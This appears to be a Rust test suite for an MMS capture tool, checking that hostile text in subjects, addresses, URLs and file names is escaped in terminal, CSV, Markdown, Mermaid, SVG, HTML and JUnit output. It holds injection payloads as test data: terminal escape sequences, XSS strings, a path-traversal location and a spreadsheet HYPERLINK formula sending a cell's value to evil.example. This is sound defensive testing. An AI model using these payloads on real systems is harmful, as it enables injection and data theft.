//! Text in messages is anybody's: what a subject, an address, a URL or a file name says may not reach a terminal, a
//! spreadsheet, a browser or a parser as anything but text. Each test prints a capture whose texts try, and the same
//! capture with harmless texts where the two must have the same form.

use std::path::PathBuf;

use mmsmate::internals::model::is_dangerous;

use super::support::{document, run};

/// Escape sequences, a new line, a carriage return, direction overrides, an invisible tag, markup, a Markdown table's
/// cell and fence, a Mermaid directive and comment, an entity, the end of a script and of a CDATA section.
const HOSTILE: &str = "x\u{1b}[2J\u{1b}]0;owned\u{7}\nINJECTED,row\r\n\u{9b}31m\u{202e}gpj\u{2066}\u{200b}\u{e0041}\
    <script>alert(1)</script><img src=x onerror=alert(1)>\" onload=\"alert(1)' | cell | ```\n%%{init: {}}%%\n;end #59; \
    &lt;b&gt; ]]> --> [a](javascript:alert(1))";

/// What a spreadsheet would compute.
const FORMULA: &str = "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")";

fn text(code: u8, text: &str) -> Vec<u8> {
    [&[code][..], text.as_bytes(), &[0]].concat()
}

/// A text with its charset, UTF-8, behind a length in two octets.
fn encoded(code: u8, before: &[u8], text: &str) -> Vec<u8> {
    let inner = [&[0xea][..], text.as_bytes(), &[0]].concat();
    let length = |octets: usize| {
        assert!((31..16_384).contains(&octets));
        vec![0x1f, 0x80 | (octets >> 7) as u8, (octets & 0x7f) as u8]
    };
    let inner = match before {
        [] => inner,
        before => [before, &length(inner.len()), &inner].concat(),
    };
    [vec![code], length(inner.len()), inner].concat()
}

/// A pcap of raw IP packets with one notification pushed over UDP.
fn capture(from: &str, subject: &str, location: &str) -> Vec<u8> {
    let pdu = [
        vec![0x8c, 0x82],
        text(0x98, location),
        vec![0x8d, 0x92],
        encoded(0x89, &[0x80], from),
        encoded(0x96, &[], subject),
        vec![
            0x8a, 0x80, 0x8e, 0x02, 0x10, 0x00, 0x88, 0x05, 0x81, 0x03, 0x01, 0x51, 0x80,
        ],
        text(0x83, &format!("http://mmsc.example/{location}")),
    ]
    .concat();
    // Transaction id 1, Push, 3 octets of headers: the media type, X-Wap-Application-Id x-wap-application:mms.ua.
    let push = [&[0x01, 0x06, 0x03, 0xbe, 0xaf, 0x84][..], &pdu].concat();
    let udp = [
        &[0xc3, 0x50, 0x0b, 0x84][..],
        &((8 + push.len()) as u16).to_be_bytes(),
        &[0, 0],
        &push,
    ]
    .concat();
    let length = (20 + udp.len()) as u16;
    let ip = [
        &[0x45, 0][..],
        &length.to_be_bytes(),
        &[0, 1, 0, 0, 64, 17, 0, 0, 10, 9, 9, 9, 10, 0, 0, 7],
        &udp,
    ]
    .concat();
    let fields = [
        0xa1b2_c3d4_u32,
        0x0004_0002,
        0,
        0,
        65_535,
        101,
        1_800_000_000,
        0,
        ip.len() as u32,
        ip.len() as u32,
    ];
    [fields.map(u32::to_le_bytes).concat(), ip].concat()
}

pub(crate) struct Captures {
    _folder: tempfile::TempDir,
    pub(crate) hostile: PathBuf,
    harmless: PathBuf,
}

pub(crate) fn captures() -> Captures {
    let folder = tempfile::tempdir().unwrap();
    let hostile = folder.path().join("hostile.pcap");
    let harmless = folder.path().join("harmle.pcap");
    let plain = "a sender whose name is harmless";
    let location = format!("../../etc/{}", HOSTILE.replace('\0', ""));
    std::fs::write(&hostile, capture(FORMULA, HOSTILE, &location)).unwrap();
    std::fs::write(&harmless, capture(plain, plain, "location")).unwrap();
    let captures = Captures {
        _folder: folder,
        hostile,
        harmless,
    };
    for path in [&captures.hostile, &captures.harmless] {
        let found = document(std::slice::from_ref(path)).unwrap();
        assert_eq!(found["messages"].as_array().unwrap().len(), 1, "{found}");
    }
    captures
}

fn printed(arguments: &[&str], capture: &PathBuf) -> String {
    let (status, stdout, stderr) = run(arguments, std::slice::from_ref(capture));
    assert_eq!((status, stderr.as_str()), (0, ""), "{arguments:?}");
    String::from_utf8(stdout).unwrap()
}

/// Only printable text, and no line that the message wrote.
fn is_plain(text: &str, what: &str) {
    let bad = text.chars().find(|c| *c != '\n' && is_dangerous(*c));
    assert_eq!(bad, None, "{what}: {text}");
    assert!(
        !text.lines().any(|line| line.trim_start().starts_with("INJECTED")),
        "{what}: {text}"
    );
}

/// Plain, and of as many lines as with harmless texts.
fn has_form(arguments: &[&str]) -> String {
    let captures = captures();
    let hostile = printed(arguments, &captures.hostile);
    let harmless = printed(arguments, &captures.harmless);
    is_plain(&hostile, &arguments.join(" "));
    assert_eq!(
        hostile.lines().count(),
        harmless.lines().count(),
        "{arguments:?}\n{hostile}"
    );
    hostile
}

#[test]
fn a_terminal() {
    let captures = captures();
    for arguments in [
        &["messages"][..],
        &["messages", "--wide"],
        &["messages", "--color", "never", "--width", "80"],
        &["show"],
        &["ladder"],
        &["captures"],
        &["pdus"],
        &["pdus", "--tree"],
    ] {
        is_plain(&printed(arguments, &captures.hostile), &arguments.join(" "));
    }
    has_form(&["messages", "--wide"]);
    has_form(&["pdus"]);
}

#[test]
fn colour_adds_nothing_but_colour() {
    let printed = printed(&["messages", "--wide", "--color", "always"], &captures().hostile);
    assert!(printed.contains("\u{1b}["), "no colour at all");
    let mut rest = printed.as_str();
    while let Some((before, after)) = rest.split_once('\u{1b}') {
        is_plain(before, "colour");
        let (sequence, after) = after.split_once('m').unwrap();
        let digits = sequence.strip_prefix('[').unwrap();
        assert!(
            digits.chars().all(|c| c.is_ascii_digit() || c == ';'),
            "{sequence:?}"
        );
        rest = after;
    }
}

#[test]
fn json() {
    let captures = captures();
    for arguments in [
        &["messages", "--format", "json"][..],
        &["messages", "--format", "jsonl"],
        &["pdus", "--format", "jsonl"],
    ] {
        is_plain(&printed(arguments, &captures.hostile), &arguments.join(" "));
    }
    let found = document(std::slice::from_ref(&captures.hostile)).unwrap();
    assert_eq!(
        found["messages"][0]["subject"], HOSTILE,
        "what it says is not lost"
    );
}

#[test]
fn a_spreadsheet() {
    for arguments in [
        &["messages", "--format", "csv", "--csv-for-excel"][..],
        &["pdus", "--format", "csv", "--csv-for-excel"],
    ] {
        let text = has_form(arguments);
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let cells: Vec<String> = reader
            .records()
            .flat_map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
            .collect();
        assert!(cells.iter().any(|cell| cell.contains("HYPERLINK")), "{text}");
        assert!(
            !cells.iter().any(|cell| cell.starts_with(['=', '@', '\t', '\r'])),
            "{text}"
        );
    }
}

#[test]
fn markdown() {
    let text = has_form(&["messages", "--format", "markdown"]);
    assert!(
        !text.contains("<script") && !text.contains("<img") && !text.contains("```"),
        "{text}"
    );
    let bars = |line: &str| line.replace("\\|", "").matches('|').count();
    let mut counts: Vec<usize> = text
        .lines()
        .filter(|line| line.starts_with('|'))
        .map(bars)
        .collect();
    counts.dedup();
    assert_eq!(counts.len(), 1, "every row has the same cells: {text}");
}

#[test]
fn a_mermaid_diagram() {
    let text = has_form(&["ladder", "--format", "mermaid"]);
    assert!(
        !text.contains("%%{") && !text.contains("<script") && !text.contains("<img"),
        "{text}"
    );
    assert!(
        !text.lines().any(|line| line.trim_start().starts_with(";end")),
        "{text}"
    );
}

#[test]
fn a_drawing() {
    let text = printed(&["ladder", "--format", "svg"], &captures().hostile);
    is_plain(&text, "svg");
    for markup in [
        "<script",
        "<img",
        " onload=\"",
        " onerror=\"",
        "href=\"javascript",
        "]]>",
    ] {
        assert!(!text.contains(markup), "{markup} in {text}");
    }
}

#[test]
fn a_page() {
    let captures = captures();
    let page = |capture: &PathBuf| printed(&["report"], capture);
    let (hostile, harmless) = (page(&captures.hostile), page(&captures.harmless));
    for markup in ["<script", "</script", "<img", "<!--", "]]>"] {
        assert_eq!(
            hostile.matches(markup).count(),
            harmless.matches(markup).count(),
            "{markup}"
        );
    }
    for markup in ["onload=\"alert", "onerror=alert(1)>"] {
        assert!(!hostile.contains(markup), "{markup}");
    }
    assert!(hostile.contains("Content-Security-Policy") && hostile.contains("default-src 'none'"));
    assert!(!hostile.contains("unsafe-inline' script") && !hostile.contains("script-src 'unsafe-inline'"));
}

/// A capture's name that tries.
const NAME: &str = "a<b>&\"'\u{1b}[31m\u{202e}\nINJECTED.pcap";

/// A copy of a file under that name; none where the file system allows no such names and has nothing to fear from them.
fn named_to_hurt(file: &PathBuf, folder: &tempfile::TempDir) -> Option<PathBuf> {
    let path = folder.path().join(NAME);
    std::fs::copy(file, &path).ok()?;
    Some(path)
}

#[test]
fn two_captures_side_by_side() {
    let captures = captures();
    let pair = [captures.hostile.clone(), captures.harmless.clone()];
    let (status, stdout, stderr) = run(&["diff"], &pair);
    assert_eq!((status, stderr.as_str()), (0, ""));
    let text = String::from_utf8(stdout).unwrap();
    assert!(text.lines().count() > 1, "{text}");
    is_plain(&text, "diff");
}

#[test]
fn a_pdu_in_a_file() {
    let captures = captures();
    let folder = tempfile::tempdir().unwrap();
    let capture = std::fs::read(&captures.hostile).unwrap();
    let at = capture.windows(2).position(|pair| pair == [0x8c, 0x82]).unwrap();
    let file = folder.path().join("pdu");
    std::fs::write(&file, &capture[at..]).unwrap();
    let Some(file) = named_to_hurt(&file, &folder) else {
        return;
    };
    for format in ["line", "tree", "jsonl", "csv"] {
        let text = printed(&["decode", "--format", format], &file);
        assert!(text.contains("HYPERLINK"), "{text}");
        is_plain(&text, format);
    }
    std::fs::write(&file, "no PDU").unwrap();
    let (status, _, stderr) = run(&["decode", "--hex"], &[file]);
    assert_eq!((status, stderr.lines().count()), (2, 1), "{stderr}");
    is_plain(&stderr, "standard error");
}

#[test]
fn a_comment_on_a_frame() {
    let captures = captures();
    let folder = tempfile::tempdir().unwrap();
    let Some(capture) = named_to_hurt(&captures.hostile, &folder) else {
        return;
    };
    let (status, stdout, stderr) = run(&["slice"], &[capture]);
    assert_eq!((status, stderr.as_str()), (0, ""));
    let text = String::from_utf8_lossy(&stdout);
    assert!(text.contains("frame 1 of a<b>"), "{text}");
    assert!(
        !text.contains("\u{1b}[31m") && !text.contains("\nINJECTED.pcap"),
        "{text}"
    );
}

#[test]
fn a_file_that_cannot_be_written() {
    let captures = captures();
    let folder = tempfile::tempdir().unwrap();
    let target = folder.path().join("missing").join(NAME);
    let arguments = ["messages", "--output", target.to_str().unwrap()];
    let (status, _, stderr) = run(&arguments, std::slice::from_ref(&captures.hostile));
    assert_eq!((status, stderr.lines().count()), (2, 1), "{stderr}");
    is_plain(&stderr, "standard error");
}

#[test]
fn junit_and_standard_error() {
    let captures = captures();
    let folder = tempfile::tempdir().unwrap();
    let Some(capture) = named_to_hurt(&captures.hostile, &folder) else {
        return;
    };
    let expectation = folder.path().join(NAME.replace(".pcap", ".expect.json"));
    std::fs::write(
        &expectation,
        r#"{"expect": {"messages": [{"subject": "another", "from": "+1"}]}}"#,
    )
    .unwrap();
    let (junit, markdown) = (folder.path().join("junit.xml"), folder.path().join("summary.md"));
    let [junit_path, markdown_path] = [&junit, &markdown].map(|path| path.to_str().unwrap());
    let arguments = ["check", "--junit", junit_path, "--markdown", markdown_path];
    let (status, stdout, stderr) = run(&arguments, std::slice::from_ref(&capture));
    assert_eq!(status, 1, "{stderr}");
    is_plain(&String::from_utf8(stdout).unwrap(), "check");
    let xml = std::fs::read_to_string(&junit).unwrap();
    is_plain(&xml, "junit");
    for markup in ["<b>", "<script", "<img", "]]>", "&\"'"] {
        assert!(!xml.contains(markup), "{markup} in {xml}");
    }
    let summary = std::fs::read_to_string(&markdown).unwrap();
    is_plain(&summary, "summary");
    assert!(
        !summary.contains("<b>") && !summary.contains("<script"),
        "{summary}"
    );
    let missing = folder.path().join(format!("not{NAME}"));
    let (status, _, stderr) = run(&["messages"], &[missing]);
    assert_eq!((status, stderr.lines().count()), (2, 1), "{stderr}");
    is_plain(&stderr, "standard error");
}
